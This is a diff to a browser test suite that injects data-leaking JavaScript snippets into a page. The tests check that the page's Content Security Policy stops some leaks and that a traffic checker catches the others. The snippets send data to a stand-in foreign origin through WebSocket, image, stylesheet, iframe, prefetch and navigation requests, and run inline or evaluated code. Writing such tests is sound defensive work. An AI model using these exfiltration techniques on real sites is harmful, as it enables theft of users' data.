@@ -15,7 +15,7 @@ from tests.browser.recording_proxy import Answer, Exchange, RecordingProxy
 from tests.browser.traffic import Allowed
 from tests.browser.users_page import UsersPage
 
-FOREIGN = "http://127.0.0.1:9"
+FOREIGN = "http://127.0.0.1:47999"
 SEARCHED = "quiet orchard"
 
 PREPARED = """
@@ -26,9 +26,18 @@ const hex = (text) => [...new TextEncoder().encode(text)]
   .map((byte) => byte.toString(16).padStart(2, "0")).join("").padEnd(64, "0").slice(0, 64);
 const element = (name, members) =>
   document.body.append(Object.assign(document.createElement(name), members));
-window.leaks = {
+const leaks = {
 %s
 };
+// later, so that what the driver may do is not what the page may do
+window.leak = (name) => new Promise((resolve) => setTimeout(async () => {
+  try {
+    await leaks[name]();
+    resolve("");
+  } catch (error) {
+    resolve(`${error}`);
+  }
+}));
 """
 
 SEEN = {
@@ -72,7 +81,7 @@ SEEN = {
         "something else than a session is asked of CSP",
     ),
     "csp's body": (
-        "fetch(`${CSP}/healthz`, { method: 'POST', body: rated() })",
+        "fetch(`${CSP}/v1/sessions/${ID}`, { method: 'POST', body: rated() })",
         "more than a question to CSP",
     ),
     "csp and the token": (
@@ -88,7 +97,7 @@ SEEN = {
         "fetch(`/v1/sessions?${new URLSearchParams({ q: SEARCHED })}`)",
         f"the text {SEARCHED!r}",
     ),
-    "window": (f"open(`{FOREIGN}/?${{rated()}}`)", "foreign origin"),
+    "another page": (f"location.assign(`{FOREIGN}/?${{rated()}}`)", "foreign origin"),  # the last
 }
 """Leaks that the page's policy cannot stop: what the check of the traffic says of each."""
 
@@ -97,13 +106,14 @@ STOPPED = {
     "socket": f"new WebSocket(`{FOREIGN.replace('http', 'ws')}/${{hex(rated())}}`)",
     "image": f"element('img', {{ src: `{FOREIGN}/?${{rated()}}` }})",
     "style": f"element('link', {{ rel: 'stylesheet', href: `{FOREIGN}/?${{rated()}}` }})",
+    "another place at CSP": "fetch(`${CSP}/healthz`, { method: 'POST', body: rated() })",
     "frame": f"element('iframe', {{ src: `{FOREIGN}/?${{rated()}}` }})",
     "prefetch": f"element('link', {{ rel: 'prefetch', href: `{FOREIGN}/?${{rated()}}` }})",
     "inline script": "element('script', { textContent: 'window.ran = true' })",
     "handler": "element('img', { onerror: null, src: 'data:,' }) ?? "
     "document.body.lastChild.setAttribute('onerror', 'window.ran = true')",
     "text as code": "Function('window.ran = true')()",
-    "markup": "(document.body.lastChild.innerHTML = '<b>x</b>', (window.ran = true))",
+    "markup": "((document.body.lastChild.innerHTML = '<b>x</b>'), (window.ran = true))",
 }
 """Leaks, and ways to them, that the page's policy stops."""
 
@@ -153,15 +163,18 @@ def test_each_leak_that_is_put_into_the_page_is_found(
 ) -> None:
     page, allowed = leaking
     assert allowed.breaches(proxy.exchanges) == []
-    missed = {}
+    missed, before_all = {}, 0
     for name, (_, due) in SEEN.items():
-        before = len(proxy.exchanges)
-        page.tab.evaluate("name => Promise.resolve(leaks[name]()).then(() => 1, () => 2)", name)
-        page.tab.wait_for_timeout(20)
-        found = allowed.breaches([*proxy.exchanges])
-        new = allowed.breaches(proxy.exchanges[before:])
-        if not any(due in line for line in new) or not found:
+        page.tab.evaluate("name => leak(name)", name)
+        new = []
+        for _ in range(50):
+            new = allowed.breaches([*proxy.exchanges])[before_all:]
+            if any(due in line for line in new):
+                break
+            page.tab.wait_for_timeout(20)
+        else:
             missed[name] = new
+        before_all += len(new)
         page.tab.context.clear_cookies()
     assert missed == {}
 
@@ -174,11 +187,11 @@ def test_the_policy_of_the_page_stops_what_it_can(
     for name in STOPPED:
         devices.said.clear()
         before = len(proxy.exchanges)
-        page.tab.evaluate("name => { try { leaks[name](); } catch {} }", name)
+        threw = page.tab.evaluate("name => leak(name)", name)
         page.tab.wait_for_timeout(50)
         foreign = [one for one in proxy.exchanges[before:] if FOREIGN[7:] in one.url]
         said = any("Content Security Policy" in line for line in devices.said)
-        if foreign or not said or page.tab.evaluate("() => 'ran' in window"):
+        if foreign or not (said or threw) or page.tab.evaluate("() => 'ran' in window"):
             passed.append(name)
     assert passed == []
     devices.uncaught.clear()
